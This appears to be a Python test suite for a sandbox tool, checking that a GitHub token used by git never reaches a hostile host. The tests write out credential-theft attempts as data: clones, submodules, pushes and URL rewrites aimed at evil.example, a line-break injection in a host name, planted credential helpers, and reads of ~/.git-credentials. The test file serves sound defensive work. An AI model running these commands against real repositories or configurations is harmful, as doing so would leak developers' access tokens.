#!/usr/bin/env -S python3 -B
# SPDX-License-Identifier: MIT
"""A token that git over https uses: a hostile address, redirect, submodule or caller gets nothing of it."""
from attack import Project, cover
from git_service import GitService
from tap import test
from vectors import attack, main, seed

QUIET = "export GIT_TERMINAL_PROMPT=0; cd /tmp; "

ADDRESSES = {
    "another host": "https://evil.example/lab.git",
    "a host below it": "https://github.com.example/lab.git",
    "another port": "https://github.com:8443/lab.git",
    "plain http": "http://github.com/lab.git",
    "a redirect": "https://github.com/to/evil.example/lab.git",
    "a user that looks like the host": "https://github.com@evil.example/lab.git",
    "a line break in the host": "https://evil.example%0ahost=github.com/lab.git",
    "another service": "https://gitlab.com/lab.git",
}


def common(h, token):
    """What people find when they look for it: a helper that tells the token to every host."""
    h.write("~/.gitconfig", f'[credential]\n\thelper = "!f() {{ echo username=x; echo password={token}; }}; f"\n[user]\n\tname = D\n\temail = d@example.org\n')


def granted(h, config='tokens = ["GITHUB_TOKEN"]\n', more=""):
    token = h.decoys.new("token")
    h.write("~/.secrets/t", token + "\n", 0o600)
    h.write("~/.config/psbc/config.toml", f'[tokens.GITHUB_TOKEN]\nfrom = "file:~/.secrets/t"\n{more}')
    h.require("psbc", "firejail")
    git = GitService(h, token)
    return Project(h, config), git, token


def leaked(git, token):
    return {host for host, given in git.given().items() if host != "https://github.com" and any(token in one for one in given)}


@test("B12: a hostile address, port, redirect or submodule never gets the token that git has for its own host")
@attack("git-token-other-host", "B12", "a token that git uses, asked for by another host, another port, plain http, a redirect, a submodule")
def _(h):
    p, git, token = granted(h)
    line = QUIET + "".join(f"git clone -q '{url}' c{i} 2>&1\n" for i, url in enumerate(ADDRESSES.values()))
    # By hand, with a helper for all.
    common(h, token)
    p.predecessor("export GIT_SSL_NO_VERIFY=1;" + line)
    assert {"https://evil.example", "https://github.com:8443", "http://github.com"} <= leaked(git, token), git.given()
    seed("git-token-other-host", True)
    git.forget()
    # What the repository itself says has no more: submodules, and a remote that the session adds.
    line += (
        "git clone -q https://github.com/lab.git real && cd real && git log --format=%s\n"
        "git config -f .gitmodules submodule.a.path a; git config -f .gitmodules submodule.a.url https://evil.example/sub.git\n"
        "git add .gitmodules; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),a; git submodule update --init 2>&1\n"
        "git remote add evil https://evil.example/lab.git; git push -q evil main 2>&1; git -c url.https://evil.example/.insteadOf=https://github.com/ fetch 2>&1"
    )
    r = p.entered(line)
    assert "one\n" in r.out and token not in r.out, r  # and its own host did get it
    assert not leaked(git, token) and git.given()["https://github.com"] == {"x-access-token:" + token}, git.given()
    asked = {host + r["path"].partition("?")[0] for r in git.requests() for host in [r["host"]]}
    for wanted in ("https://evil.example/sub.git/info/refs", "https://evil.example/lab.git/info/refs", "https://github.com:8443/lab.git/info/refs", "http://github.com/lab.git/info/refs"):
        assert wanted in asked, (wanted, asked)  # the attack was made


@test("B12: git credential, asked by hand for another host, gives nothing; and the helper keeps and removes nothing")
@attack("git-token-asked", "B12", "a token that git uses, asked for by hand: git credential fill, the helper itself")
def _(h):
    p, git, token = granted(h)
    descriptions = (
        "protocol=https\nhost=evil.example", "protocol=https\nhost=github.com:8443", "protocol=http\nhost=github.com", "protocol=https\nhost=api.github.com",
        "protocol=https\nhost=gitlab.com", "url=https://evil.example/github.com", "url=https://github.com.evil.example", "protocol=ssh\nhost=github.com",
    )  # fmt: skip
    fill = QUIET + "".join(f"printf '{d}\\n\\n' | git credential fill\n" for d in descriptions)
    common(h, token)
    assert h.run(["sh", "-c", fill]).out.count(token) >= 6
    seed("git-token-asked", token in p.predecessor(fill).out)
    helper = "sh ~/.config/psbc/git-credential GITHUB_TOKEN github.com x-access-token"
    for said in (fill, "".join(
        f"printf '{text}\\n\\n' | {helper} {verb}\n"
        for text, verb in (
            ("protocol=https\\nhost=github.com", "store"), ("protocol=https\\nhost=github.com", "erase"), ("protocol=https\\nhost=evil.example\\nhost=github.com", "get"),
            ("protocol=http\\nprotocol=https\\nhost=github.com", "get"), ("\\nprotocol=https\\nhost=github.com", "get"), ("host=github.com", "get"),
        )
    ) + "printf 'protocol=https\\nhost=github.com\\nusername=u\\npassword=p\\n\\n' | git credential approve; cat ~/.git-credentials"):  # fmt: skip
        r = p.entered(said)
        assert token not in r.out + r.err, (said, str(r))
    ask = "printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill"
    assert f"username=x-access-token\npassword={token}\n" in p.entered(QUIET + ask).out
    # Nothing of psbc's making holds it: the settings, the helper, the builds. git passes it on by a pipe.
    r = p.entered("cat ~/.gitconfig ~/.config/psbc/* | grep -v ^$; env -u GITHUB_TOKEN sh -c 'env; " + ask.replace("'", "'\\''") + "'")
    assert "git-credential" in r.out and token not in r.out, r
    assert token not in str(h.tree("~/.local")) + p.psbc("build", "--print", "policy").out


@test("B12: credential helpers of the machine and of the user do not answer inside")
@attack("git-helpers", "B12", "credential helpers of ~/.gitconfig and of /etc/gitconfig, and what they keep")
def _(h):
    stolen = h.decoys.new("from a helper of the machine")
    h.write("~/.git-credentials", f"https://x:{h.decoys.new('kept')}@github.com\n", 0o600)
    h.write("~/.gitconfig", "[credential]\n\thelper = store\n[credential \"https://github.com\"]\n\tusername = me\n")
    mint = h.write("~/mint", f"#!/bin/sh\necho username=x; echo password={stolen}\n", 0o755)
    cover("/etc/gitconfig", f'[credential]\n\thelper = "!sh {h.path("~/code/demo/mint")}"\n')
    h.mkdir("~/code/demo")
    h.write("~/code/demo/mint", h.read(mint), 0o755)
    fill = QUIET + "printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill; printf 'protocol=https\\nhost=other.example\\n\\n' | git credential fill"
    assert stolen in h.run(["sh", "-c", fill]).out
    p = Project(h, 'tokens = ["GITHUB_TOKEN?"]\n')
    seed("git-helpers", bool(h.decoys.found_in(p.predecessor(fill).out)))
    r = p.entered(fill)
    assert not h.decoys.found_in(r.out), r


@test("B12: a token of a company's own server goes to that server, and a file that names another one is warned about")
@attack("git-token-company", "B12", "a token of a company's own git server, sent to the public service; GH_HOST and GITLAB_HOST that a file sets")
def _(h):
    token = h.decoys.new("token")
    for name in ("GH_ENTERPRISE_TOKEN", "GITLAB_TOKEN"):
        h.write("~/.config/psbc/config.toml", "".join(f'[tokens.{t}]\nfrom = ["echo", "{token}"]\n' for t in ("GH_ENTERPRISE_TOKEN", "GITLAB_TOKEN")))
    both = 'tokens = ["GH_ENTERPRISE_TOKEN", "GITLAB_TOKEN"]\n'
    ask = QUIET + "for host in github.com gitlab.com git.acme.example gitlab.acme.example:8443; do echo $host; printf \"protocol=https\\nhost=$host\\n\\n\" | git credential fill; done"

    def who(config, **env):
        h.env.update(env)
        r = Project(h, config).entered(ask)
        words = r.out.split()
        return [word for at, word in enumerate(words) if "=" not in word and words[at + 1 : at + 2] and words[at + 1].startswith("protocol")], r

    assert who(both)[0] == ["gitlab.com"]
    # The developer's own shell says where it belongs, where the file lets that cross.
    crossing = both + '[env]\npass = ["GH_HOST", "GITLAB_HOST"]\n'
    found, r = who(crossing, GH_HOST="git.acme.example", GITLAB_HOST="https://gitlab.acme.example:8443/")
    assert found == ["git.acme.example", "gitlab.acme.example:8443"] and "PSB416" not in r.err, r
    found, r = who(crossing, GH_HOST="github.com", GITLAB_HOST="http://gitlab.acme.example")
    assert found == [] and "GH_HOST names github.com, which has a token of its own" in r.err and "GITLAB_HOST names no server of https" in r.err, r
    r = h.psbc("trust", "--revoke", cwd="~/code/demo")
    h.write("~/code/demo/.python-sandbox.toml", f'name = "demo"\n{both}[env]\nset = {{ GITLAB_HOST = "git.acme.example" }}\n')
    r = h.psbc("trust", "--yes", cwd="~/code/demo")
    assert "PSB416" in r.err + r.out and "git gives it to `git.acme.example`" in r.err + r.out, r


main()
